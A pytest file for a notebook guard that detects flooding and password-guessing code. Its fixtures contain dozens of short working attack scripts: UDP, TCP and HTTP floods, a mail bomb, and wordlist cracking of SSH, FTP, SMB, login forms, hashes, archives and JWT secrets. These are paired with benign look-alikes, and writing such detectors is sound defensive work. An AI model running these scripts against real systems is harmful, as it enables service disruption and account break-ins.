"""The behaviour matcher kind: floods and password guessing read from Python's syntax tree.

The cases are written for these tests (each in a different style: scripts, classes, asyncio,
Python 2, notebook cells with magics), flag and allow, and hard negatives that share the
calls but not the behaviour (load tests of this machine, pollers, crawls, hashing lessons).
"""

from __future__ import annotations

import textwrap
import time

import pytest

from jupyter_tos_guard.policy import Engine, PolicyError, load_texts
from jupyter_tos_guard.policy.behaviour import host_kind, parse, sightings
from jupyter_tos_guard.policy.cell import split_cell
from jupyter_tos_guard.policy.matchers import KINDS
from jupyter_tos_guard.policy.matchers.behaviour import SIGNS, BehaviourMatcher
from jupyter_tos_guard.policy.matchers.regex import RegexMatcher


def _code(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def _python(text: str) -> str:
    """The Python the analysis reads of a cell (magics and shell lines blanked)."""
    return split_cell(_code(text), "python").python


FLOODS = [
    # an endless UDP loop at a target from the command line
    """
    import socket, sys, random
    host = sys.argv[1]
    junk = random._urandom(1024)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        s.sendto(junk, (host, random.randint(1, 65535)))
    """,
    # Python 2, threads started without end, a worker reached through Thread(target=...)
    """
    import socket, threading
    target = raw_input("Target IP: ")
    def attack():
        while 1:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((target, 80))
            s.send("GET / HTTP/1.1\\r\\n")
            s.close()
    for i in range(500):
        t = threading.Thread(target=attack)
        t.start()
    print "attack started"
    """,
    # a flag-controlled loop in a method, an HTTP session, the URL from argparse
    """
    import argparse, requests
    class Hammer:
        def __init__(self, url):
            self.url = url
            self.running = True
            self.http = requests.Session()
        def go(self):
            while self.running:
                self.http.get(self.url)
    p = argparse.ArgumentParser()
    p.add_argument("--url")
    Hammer(p.parse_args().url).go()
    """,
    # a timed flood, the target a literal domain
    """
    import time, urllib.request
    stop = time.time() + 600
    while time.time() < stop:
        urllib.request.urlopen("http://victim.example.com/search?q=a")
    """,
    # async tasks, many at once, each looping
    """
    import asyncio, aiohttp
    TARGET = "https://www.example.org/"
    async def worker(s):
        while True:
            try:
                await s.get(TARGET)
            except Exception:
                pass
    async def main():
        async with aiohttp.ClientSession() as s:
            await asyncio.gather(*[worker(s) for _ in range(500)])
    asyncio.run(main())
    """,
    # scapy, a loop without end, the packet assigned first
    """
    from scapy.all import *
    pkt = IP(dst="192.0.2.44") / ICMP() / ("X" * 600)
    while True:
        send(pkt, verbose=0)
    """,
    # a pool of processes, each looping over a very large range
    """
    import multiprocessing, socket
    dst = ("203.0.113.5", 443)
    def blast(_):
        sk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(10 ** 7):
            sk.sendto(b"\\x00" * 512, dst)
    with multiprocessing.Pool(8) as pool:
        pool.map(blast, range(64))
    """,
    # a notebook cell: a magic line, then a thread pool submitting an endless worker
    """
    %pip install requests
    from concurrent.futures import ThreadPoolExecutor
    import requests
    site = input("site: ")
    def spam():
        while True:
            requests.post(site, data={"comment": "x" * 2000})
    with ThreadPoolExecutor(max_workers=100) as ex:
        for _ in range(100):
            ex.submit(spam)
    """,
    # hundreds of connections held open (the slow kind)
    """
    import socket
    victim = "198.51.100.20"
    held = []
    for _ in range(400):
        c = socket.socket()
        c.connect((victim, 80))
        c.send(b"GET / HTTP/1.1\\r\\n")
        held.append(c)
    """,
    # a packet count the user gives, sent by the loop itself
    """
    import socket, sys
    ip, count = sys.argv[1], int(sys.argv[2])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for n in range(count):
        raw.sendto(b"\\x08\\x00" + bytes(56), (ip, 0))
    """,
]

NOT_FLOODS = [
    # load test of this machine
    """
    import threading, requests
    def load():
        while True:
            requests.get("http://localhost:5000/api")
    for _ in range(100):
        threading.Thread(target=load).start()
    """,
    # host from argv but defaulting to this machine
    """
    import sys, socket
    host = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        s.sendto(b"ping", (host, 9999))
    """,
    # a poller with a pause
    """
    import requests, time
    while True:
        r = requests.get("https://status.example.com/api/v2/summary.json")
        print(r.json()["status"])
        time.sleep(30)
    """,
    # a retry loop that stops on success
    """
    import requests
    while True:
        try:
            r = requests.get("https://data.example.org/big.csv", timeout=30)
            break
        except requests.RequestException:
            continue
    """,
    # a bounded crawl: each page once
    """
    import requests
    urls = [f"https://example.org/p/{i}" for i in range(50)]
    for u in urls:
        requests.get(u)
    """,
    # many threads, each fetching once (a download pool)
    """
    import threading, urllib.request
    def fetch(n):
        urllib.request.urlretrieve(f"https://mirror.example.net/part{n}.bin", f"part{n}.bin")
    for n in range(200):
        threading.Thread(target=fetch, args=(n,)).start()
    """,
    # a server answering clients without end
    """
    import socket
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind(("", 5005))
    while True:
        data, addr = srv.recvfrom(1024)
        srv.sendto(data.upper(), addr)
    """,
    # an echo client waiting for each answer
    """
    import socket
    s = socket.create_connection(("echo.example.net", 7))
    while True:
        s.sendall(b"hello")
        print(s.recv(1024))
    """,
    # a websocket consumer loop
    """
    import asyncio, websockets
    async def listen():
        async with websockets.connect("wss://stream.example.com/feed") as ws:
            while True:
                print(await ws.recv())
    asyncio.run(listen())
    """,
    # a flood of work, not of traffic: a training loop
    """
    import requests
    data = requests.get("https://example.org/data.json").json()
    step = 0
    while True:
        step += 1
        if step > 1000:
            break
    """,
    # code that does not parse
    "while True:\n    requests.get('https://example.com'\n",
]

GUESSES = [
    # a zip and a wordlist, Python 2
    """
    import zipfile
    z = zipfile.ZipFile("secret.zip")
    for line in open("rockyou.txt"):
        try:
            z.extractall(pwd=line.strip())
            print "found", line
            break
        except:
            pass
    """,
    # a hash and every combination, inside a function
    """
    import hashlib, itertools, string
    def crack(target, max_len=5):
        for n in range(1, max_len + 1):
            for tup in itertools.product(string.printable, repeat=n):
                word = "".join(tup)
                if hashlib.md5(word.encode()).hexdigest() == target:
                    return word
    print(crack("098f6bcd4621d373cade4e832627b4f6"))
    """,
    # ftp logins from a list read first, keyword arguments
    """
    import ftplib
    with open("pw.lst") as f:
        words = f.read().splitlines()
    for w in words:
        try:
            ftplib.FTP("192.0.2.9").login(user="admin", passwd=w)
            print("ok", w)
            break
        except ftplib.error_perm:
            continue
    """,
    # a generator of candidates and a PDF
    """
    import pikepdf
    def guesses():
        for year in range(1950, 2030):
            for name in ("anna", "max"):
                yield f"{name}{year}"
    for g in guesses():
        try:
            pikepdf.open("locked.pdf", password=g)
            print(g)
            break
        except pikepdf.PasswordError:
            pass
    """,
    # a queue filled from a wordlist, workers trying SSH
    """
    import queue, threading, paramiko
    q = queue.Queue()
    for p in open("passwords.txt"):
        q.put(p.strip())
    def worker():
        while not q.empty():
            cand = q.get()
            c = paramiko.SSHClient()
            try:
                c.connect("198.51.100.3", username="root", password=cand)
                print("found", cand)
            except paramiko.AuthenticationException:
                pass
    for _ in range(8):
        threading.Thread(target=worker).start()
    """,
    # a login form, the candidate in an f-string body
    """
    import requests
    for pw in open("common.txt", encoding="utf-8"):
        pw = pw.rstrip()
        r = requests.post("http://192.0.2.80/login.php", data=f"user=admin&password={pw}",
                          headers={"Content-Type": "application/x-www-form-urlencoded"})
        if "Login failed" not in r.text:
            print("password:", pw)
    """,
    # bcrypt checks against a stolen hash
    """
    import bcrypt
    stolen = b"$2b$12$abcdefghijklmnopqrstuuu0123456789012345678901234567890"
    for word in open("top10k.txt", "rb"):
        if bcrypt.checkpw(word.strip(), stolen):
            print("cracked:", word)
    """,
    # a PIN by brute force through a helper
    """
    import requests
    def try_pin(code):
        return requests.post("https://bank.example.com/verify", json={"pin": code}).ok
    for i in range(10000):
        if try_pin(f"{i:04d}"):
            print(i)
            break
    """,
    # a telnet prompt answered with each candidate
    """
    import telnetlib
    for guess in open("words.txt"):
        tn = telnetlib.Telnet("192.0.2.23")
        tn.read_until(b"Password: ")
        tn.write(guess.strip().encode() + b"\\n")
        if b"$" in tn.read_some():
            print(guess)
    """,
    # a JWT secret from a wordlist, keyword key
    """
    import jwt
    token = open("token.txt").read().strip()
    for secret in open("jwt-secrets.txt").read().split():
        try:
            jwt.decode(token, key=secret, algorithms=["HS256"])
            print("secret:", secret)
            break
        except jwt.InvalidSignatureError:
            pass
    """,
]

NOT_GUESSES = [
    # one password, hashed and checked
    """
    import hashlib
    pw = input("password: ")
    stored = open("hash.txt").read().strip()
    print(hashlib.sha256(pw.encode()).hexdigest() == stored)
    """,
    # a strength checker over a list read from a file
    """
    import re
    for pw in open("new_passwords.txt"):
        pw = pw.strip()
        strong = len(pw) >= 12 and re.search(r"\\d", pw) and re.search(r"[A-Z]", pw)
        print(pw, "strong" if strong else "weak")
    """,
    # a login with a password from getpass, then work over a file
    """
    import getpass, ftplib
    ftp = ftplib.FTP("ftp.example.edu")
    ftp.login("student", getpass.getpass())
    for name in open("files.txt"):
        ftp.retrbinary(f"RETR {name.strip()}", open(name.strip(), "wb").write)
    """,
    # accounts created from a table (not tried)
    """
    import csv
    for row in csv.reader(open("accounts.csv")):
        create_user(username=row[0], password=row[1])
    """,
    # a dedup by file hash
    """
    import hashlib, os
    seen = set()
    for name in open("paths.txt").read().splitlines():
        digest = hashlib.md5(open(name, "rb").read()).hexdigest()
        if digest in seen:
            os.remove(name)
        seen.add(digest)
    """,
    # a lookup table of hashes (no comparison)
    """
    import hashlib
    table = {}
    for w in open("words.txt"):
        table[hashlib.sha1(w.strip().encode()).hexdigest()] = w.strip()
    """,
    # a short list of literals in a lesson
    """
    import hashlib
    target = hashlib.sha256(b"banana").hexdigest()
    for attempt in ["apple", "banana"]:
        print(attempt, hashlib.sha256(attempt.encode()).hexdigest() == target)
    """,
    # posting each line of a file to an API
    """
    import requests
    for line in open("sentences.txt"):
        requests.post("https://api.example.com/translate", json={"text": line, "lang": "de"})
    """,
    # a password generator
    """
    import itertools, string, random
    for combo in itertools.product("ab", repeat=3):
        print("".join(combo))
    pw = "".join(random.choice(string.ascii_letters) for _ in range(16))
    """,
    # code that does not parse
    "for w in open('words.txt'):\n    zf.extractall(pwd=w\n",
]


@pytest.mark.parametrize("code", FLOODS)
def test_floods_are_seen(code):
    found = sightings(_python(code), ["flood"])
    assert found, code
    assert all(s.behaviour == "flood" for s in found)


@pytest.mark.parametrize("code", NOT_FLOODS)
def test_what_only_looks_like_a_flood_is_not(code):
    assert sightings(_python(code), ["flood"]) == []


@pytest.mark.parametrize("code", GUESSES)
def test_password_guessing_is_seen(code):
    found = sightings(_python(code), ["password-guessing"])
    assert found, code


@pytest.mark.parametrize("code", NOT_GUESSES)
def test_what_only_looks_like_guessing_is_not(code):
    assert sightings(_python(code), ["password-guessing"]) == []


def test_spans_point_at_the_call_in_the_cell():
    code = _code(
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        while True:
            s.sendto("é".encode() * 10, ("198.51.100.1", 53))
        """
    )
    (seen,) = sightings(code, ["flood"])
    assert code[seen.start : seen.end] == 's.sendto("é".encode() * 10, ("198.51.100.1", 53))'


def test_python2_prints_keep_lines_and_spans_stay_in_the_cell():
    code = 'import socket\nprint "go"\nwhile 1:\n    socket.socket().connect(("203.0.113.9", 80))\n'
    (seen,) = sightings(code, ["flood"])
    assert 0 <= seen.start < seen.end <= len(code)
    assert code.count("\n", 0, seen.start) == 3


@pytest.mark.parametrize("text", ["while True:\n  x(", "\0", "def f(:\n", "x = (" * 200 + ")" * 200, ""])
def test_text_that_is_not_python_has_no_behaviour(text):
    assert sightings(text) == []


def test_deep_nesting_does_not_raise():
    deep = "x = " + "[" * 90 + "]" * 90 + "\nwhile True:\n    requests.get('https://example.com')\n"
    sightings(deep)  # parsed or not, it returns


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("http://127.0.0.1:8000/x", "local"),
        ("localhost", "local"),
        ("0.0.0.0", "local"),
        ("https://api.example.com/v1", "remote"),
        ("203.0.113.7", "remote"),
        ("victim.example.org", "remote"),
        ("data.csv", None),
        ("hello world", None),
    ],
)
def test_host_kinds(text, kind):
    assert host_kind(text) == kind


def test_parse_reads_python2_and_refuses_garbage():
    assert parse("print 'x'\n") is not None
    assert parse("))") is None


POLICY = """\
version: 1
rules:
  - id: t.flood
    category: dos
    title: flood
    action: block
    message: no floods
    match:
      - behaviour: flood
  - id: t.guess
    category: password-cracking
    title: guessing
    action: warn
    message: no guessing
    match:
      - behaviour: password-guessing
"""


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(load_texts([("t.yaml", POLICY)]))


def test_the_kind_is_registered_and_parsed():
    assert "behaviour" in KINDS
    policy = load_texts([("t.yaml", POLICY)])
    assert policy.rules[0].matchers == (BehaviourMatcher("flood"),)


def test_a_bad_behaviour_is_reported_where_it_was_written():
    bad = POLICY.replace("behaviour: flood", "behaviour: floods")
    with pytest.raises(PolicyError) as err:
        load_texts([("t.yaml", bad)])
    (problem,) = err.value.problems
    assert (problem.source, problem.line, problem.column) == ("t.yaml", 9, 20)
    assert "did you mean 'flood'" in problem.message


@pytest.mark.parametrize("value", ["[flood]", "''", "42"])
def test_a_behaviour_must_be_one_name(value):
    with pytest.raises(PolicyError):
        load_texts([("t.yaml", POLICY.replace("behaviour: flood", f"behaviour: {value}"))])


@pytest.mark.parametrize("code", FLOODS)
def test_the_engine_sees_floods_focused_and_whole(engine, code):
    code = _code(code)
    focused = engine.evaluate(code)
    whole = Engine(engine.policy, focus=False).evaluate(code)
    assert focused.hit("t.flood") is not None, code
    assert whole.hit("t.flood") is not None
    for m in focused.hit("t.flood").matches:
        assert 0 <= m.span.start < m.span.end <= len(code)


@pytest.mark.parametrize("code", GUESSES)
def test_the_engine_sees_guessing(engine, code):
    assert engine.evaluate(_code(code)).hit("t.guess") is not None


@pytest.mark.parametrize("code", [*NOT_FLOODS, *NOT_GUESSES])
def test_the_engine_allows_the_hard_negatives(engine, code):
    assert engine.evaluate(_code(code)).hits == ()


@pytest.mark.parametrize(
    "code",
    [
        "import pandas as pd\ndf = pd.read_csv('x.csv')\nprint(df.describe())\n",
        "for i in range(10):\n    print(i)\n",
        "import requests\nr = requests.get('https://example.com')\n",
        "import hashlib\nprint(hashlib.sha256(b'x').hexdigest())\n",
    ],
)
def test_cells_without_both_signs_stay_on_the_fast_path(engine, code):
    assert not engine.needs_analysis(code)


def test_the_prefilter_needs_both_kinds_of_sign(engine):
    assert engine.needs_analysis("import requests\nwhile True:\n    pass\n")
    assert not engine.needs_analysis("while True:\n    pass\n")
    assert not engine.needs_analysis("import requests\nrequests.get(u)\n")
    # a place-only sign (where targets come from) is no reason to read a cell
    assert not engine.needs_analysis("import sys\nwhile True:\n    print(sys.argv)\n")
    # ... unless something is hidden there, where signs may be decoded
    assert engine.needs_analysis("import base64\nexec(base64.b64decode(s))\nwhile True:\n    pass\n")


def test_a_kind_can_require_several_of_its_patterns_together():
    assert [len(SIGNS[b][0]) for b in ("flood", "password-guessing")] == [2, 2]
    assert KINDS["behaviour"].patterns_required(BehaviourMatcher("flood")) == 2
    assert KINDS["regex"].patterns_required(RegexMatcher("x")) == 0  # any one, as before


def test_a_cell_with_the_signs_but_no_structure_is_read_quickly(engine):
    # thousands of loops and sends that never meet: linear, not quadratic
    code = "import requests\n" + "".join(f"for i{n} in range(3):\n    x = requests.get\n" for n in range(3000))
    started = time.perf_counter()
    engine.evaluate(code)
    assert time.perf_counter() - started < 5


MORE_FLOODS = [
    # a flood function whose caller is in another cell: the target is the caller's
    """
    import socket
    def flood(host, port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        while True:
            s.sendto(b"A" * 1024, (host, port))
    """,
    # a websocket opened once and written to without end
    """
    import websocket
    ws = websocket.create_connection("wss://chat.example.net/socket")
    while True:
        ws.send("x" * 10000)
    """,
    # scapy with a count the user gives
    """
    import sys
    from scapy.all import IP, UDP, send
    send(IP(dst=sys.argv[1]) / UDP(dport=53), count=int(sys.argv[2]))
    """,
]

MORE_NOT_FLOODS = [
    # a consumer forwarding what a queue gives it
    """
    import queue, requests
    jobs = queue.Queue()
    def forward():
        while True:
            item = jobs.get()
            requests.post("https://hooks.example.com/in", json=item)
    """,
    # a keep-alive with a pause, in a function
    """
    import time
    def keepalive(ws):
        while True:
            ws.send("ping")
            time.sleep(20)
    """,
    # a relay answering what it reads
    """
    def relay(conn, upstream):
        while True:
            chunk = conn.recv(4096)
            upstream.sendall(chunk)
    """,
]


@pytest.mark.parametrize("code", MORE_FLOODS)
def test_more_floods(code):
    assert sightings(_python(code), ["flood"])


@pytest.mark.parametrize("code", MORE_NOT_FLOODS)
def test_more_hard_negatives(code):
    assert sightings(_python(code), ["flood"]) == []


MORE_GUESSES = [
    # a class: the wordlist read in __init__, each word tried by a method
    """
    import zipfile
    class Cracker:
        def __init__(self, archive, wordlist):
            self.zf = zipfile.ZipFile(archive)
            self.words = open(wordlist).read().split()
        def one(self, w):
            try:
                self.zf.extractall(pwd=w.encode())
                return True
            except RuntimeError:
                return False
        def run(self):
            for w in self.words:
                if self.one(w):
                    return w
    """,
    # random guesses until one matches
    """
    import hashlib, random, string
    target = "5d41402abc4b2a76b9719d911017c592"
    found = False
    while not found:
        guess = "".join(random.choice(string.ascii_lowercase) for _ in range(5))
        found = hashlib.md5(guess.encode()).hexdigest() == target
    """,
    # a wordlist downloaded, a PDF opened with PyPDF2
    """
    import requests, PyPDF2
    words = requests.get("https://example.org/lists/top.txt").text.splitlines()
    f = open("report.pdf", "rb")
    for w in words:
        if PyPDF2.PdfFileReader(f).decrypt(w):
            print(w)
    """,
    # a browser's password field
    """
    from selenium import webdriver
    from selenium.webdriver.common.by import By
    driver = webdriver.Firefox()
    for pw in open("pw.txt"):
        driver.get("https://intranet.example.com/login")
        driver.find_element(By.NAME, "password").send_keys(pw.strip())
        driver.find_element(By.ID, "submit").click()
    """,
    # an SMB share
    """
    from smb.SMBConnection import SMBConnection
    for pw in open("smb.txt"):
        conn = SMBConnection("admin", pw.strip(), "me", "fileserver")
        if conn.connect("192.0.2.50", 139):
            print(pw)
    """,
]

MORE_NOT_GUESSES = [
    # a user's one password checked against the stored hashes of a file
    """
    import bcrypt, getpass
    typed = getpass.getpass().encode()
    for line in open("users.db"):
        user, stored_hash = line.strip().split(":")
        if bcrypt.checkpw(typed, stored_hash.encode()):
            print("hello", user)
    """,
    # users given a password by the admin
    """
    for row in open("new_staff.csv"):
        name, email = row.strip().split(",")
        account = User(name=name, email=email)
        account.set_password(initial_password)
    """,
    # a random password generated once
    """
    import random, string
    while True:
        pw = "".join(random.choice(string.ascii_letters + string.digits) for _ in range(12))
        if any(c.isdigit() for c in pw):
            break
    print(pw)
    """,
]


@pytest.mark.parametrize("code", MORE_GUESSES)
def test_more_guessing(code):
    assert sightings(_python(code), ["password-guessing"])


@pytest.mark.parametrize("code", MORE_NOT_GUESSES)
def test_more_guessing_hard_negatives(code):
    assert sightings(_python(code), ["password-guessing"]) == []


EVEN_MORE_FLOODS = [
    # one HTTP connection, the same request again and again
    """
    import http.client
    conn = http.client.HTTPSConnection("www.example.com", 443)
    while True:
        conn.request("GET", "/")
        conn.getresponse().read()
    """,
    # the target from the environment, a range written as int(1e6)
    """
    import os, requests
    for _ in range(int(1e6)):
        requests.get(os.environ["TARGET_URL"])
    """,
]

EVEN_MORE_NOT_FLOODS = [
    # a crawl whose query follows the loop
    """
    import requests
    for page in range(20000):
        rows = requests.get("https://api.example.org/v1/items", params={"page": page}).json()
    """,
]


@pytest.mark.parametrize("code", EVEN_MORE_FLOODS)
def test_even_more_floods(code):
    assert sightings(_python(code), ["flood"])


@pytest.mark.parametrize("code", EVEN_MORE_NOT_FLOODS)
def test_even_more_hard_negatives(code):
    assert sightings(_python(code), ["flood"]) == []


def test_python2_with_tabs_and_print_to_a_stream():
    code = (
        "import socket, sys\n"
        "target = sys.argv[1]\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "while 1:\n"
        "\ttry:\n"
        "            s.sendto('x' * 1024, (target, 80))\n"
        "\texcept socket.error, e:\n"
        "\t\tprint >>sys.stderr, 'error', e\n"
        "\t\traise SystemExit, 'stopped'\n"
    )
    (seen,) = sightings(code, ["flood"])
    assert code.count("\n", 0, seen.start) == 5


def test_one_broken_statement_does_not_hide_the_rest():
    code = (
        "import socket\n"
        "def broken(:\n"
        "    pass\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "while True:\n"
        "    s.sendto(b'x', ('203.0.113.8', 9))\n"
    )
    (seen,) = sightings(code, ["flood"])
    assert code[seen.start : seen.end] == "s.sendto(b'x', ('203.0.113.8', 9))"


def test_a_wordlist_written_out_is_a_wordlist_against_a_given_hash():
    words = ", ".join(f'"w{n}"' for n in range(12))
    given = f'import hashlib\nleak = "{"a" * 32}"\nfor w in [{words}]:\n    if hashlib.md5(w.encode()).hexdigest() == leak:\n        print(w)\n'
    assert sightings(given, ["password-guessing"])
    # ... but against a hash the lesson computed itself, it is a hashing lesson
    lesson = given.replace(f'leak = "{"a" * 32}"', 'leak = hashlib.md5(b"w7").hexdigest()')
    assert sightings(lesson, ["password-guessing"]) == []


def test_a_lesson_hashing_its_own_secret_is_not_an_attack():
    words = ", ".join(f'"w{n}"' for n in range(12))
    code = f'import hashlib\nsecret = "w3"\nleak = hashlib.sha1(secret.encode()).hexdigest()\nfor w in [{words}]:\n    if hashlib.sha1(w.encode()).hexdigest() == leak:\n        print(w)\n'
    assert sightings(code, ["password-guessing"]) == []


FORM_GUESSES = [
    # an XML-RPC body built with format()
    """
    import requests
    BODY = "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>{}</value></param><param><value><string>password:{}</string></value></param></params></methodCall>"
    for w in open("wp.txt"):
        requests.post("https://blog.example.com/xmlrpc.php", data=BODY.format("admin", w.strip()))
    """,
    # a helper from another module, named for what it does
    """
    from tools import try_login
    for w in open("rockyou.txt", errors="ignore"):
        if try_login("admin", w.strip()):
            break
    """,
]

FORM_NOT_GUESSES = [
    # rows posted as pairs, next to an API secret that is no candidate
    """
    import requests
    for line in open("rows.txt"):
        requests.post("https://api.example.com/rows", data=[("text", line)], params={"client_secret": KEY})
    """,
]


@pytest.mark.parametrize("code", FORM_GUESSES)
def test_form_guessing(code):
    assert sightings(_python(code), ["password-guessing"])


@pytest.mark.parametrize("code", FORM_NOT_GUESSES)
def test_form_hard_negatives(code):
    assert sightings(_python(code), ["password-guessing"]) == []


def test_a_password_typed_into_a_page():
    code = _code(
        """
        from playwright.sync_api import sync_playwright
        with sync_playwright() as p:
            page = p.chromium.launch().new_page()
            for guess in open("pw.txt"):
                page.goto("https://app.example.com/login")
                page.fill("#password", guess.strip())
                page.click("#go")
        """
    )
    assert sightings(code, ["password-guessing"])
    # type(x) is the builtin, not typing into a prompt
    assert sightings("for pw in open('p.txt'):\n    print('password', type(pw))\n", ["password-guessing"]) == []


PACED = [
    # frames from a camera streamed to a server
    """
    import cv2, socket, pickle
    cap = cv2.VideoCapture(0)
    s = socket.socket()
    s.connect(("192.168.1.20", 8485))
    while True:
        ok, frame = cap.read()
        s.sendall(pickle.dumps(frame))
    """,
    # a game client sending its state each frame
    """
    import pygame, socket
    clock = pygame.time.Clock()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        sock.sendto(b"state", ("game.example.net", 5000))
        clock.tick(60)
    """,
]


@pytest.mark.parametrize("code", PACED)
def test_loops_paced_by_a_device_or_a_frame_rate(code):
    assert sightings(_python(code), ["flood"]) == []


def test_a_response_read_does_not_pace_a_flood():
    code = "import urllib.request\nwhile True:\n    urllib.request.urlopen('https://www.example.com/').read()\n"
    assert sightings(code, ["flood"])


def test_a_mail_bomb_is_a_flood():
    code = _code(
        """
        import smtplib
        victim = input("address: ")
        server = smtplib.SMTP("smtp.example.com", 587)
        server.login(USER, PASSWORD)
        for _ in range(int(input("how many: "))):
            server.sendmail(USER, victim, "Subject: hi\\n\\nhi")
        """
    )
    assert sightings(code, ["flood"])
    newsletter = "import smtplib\ns = smtplib.SMTP('smtp.example.com')\nfor to in open('list.txt'):\n    s.sendmail(ME, to, MSG)\n"
    assert sightings(newsletter, ["flood"]) == []


def test_a_hash_updated_with_each_candidate():
    code = _code(
        """
        import hashlib
        target = open("hash.txt").read().strip()
        for word in open("words.txt"):
            h = hashlib.new("sha1")
            h.update(word.strip().encode())
            if h.hexdigest() == target:
                print(word)
        """
    )
    assert sightings(code, ["password-guessing"])


def test_a_target_handed_on_by_a_loop_is_read_focused(engine):
    # the for-loop over getopt's pairs is no assignment the focused reading follows: the
    # prefilter's match starts at sys.argv so that it is kept
    code = _code(
        """
        import sys, getopt, socket
        opts, rest = getopt.getopt(sys.argv[1:], "h:")
        for flag, value in opts:
            if flag == "-h":
                host = value
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        while True:
            s.sendto(b"x" * 512, (host, 53))
        """
    )
    assert engine.evaluate(code).hit("t.flood") is not None


def test_long_polling_is_a_conversation_not_a_flood():
    code = _code(
        """
        import requests
        offset = 0
        while True:
            r = requests.get("https://api.telegram.org/botTOKEN/getUpdates", params={"offset": offset, "timeout": 30})
            for update in r.json()["result"]:
                offset = update["update_id"] + 1
        """
    )
    assert sightings(code, ["flood"]) == []


def test_a_pool_given_a_hundred_thousand_jobs_floods():
    code = _code(
        """
        from multiprocessing.dummy import Pool
        import requests
        def once(_):
            requests.get("https://victim.example.org/")
        Pool(200).map(once, range(100000))
        """
    )
    assert sightings(code, ["flood"])
    # a few hundred one-shot jobs are a burst, not a flood
    assert sightings(code.replace("100000", "300"), ["flood"]) == []


def test_dict_updates_and_the_builtin_hash_are_no_password_hashes():
    code = _code(
        """
        seen = set()
        def names():
            for line in open("names.txt"):
                yield line.strip()
        for n in names():
            seen.update(n.split())
            if hash(n) == TARGET or n in seen:
                print(n)
        """
    )
    assert sightings(code, ["password-guessing"]) == []
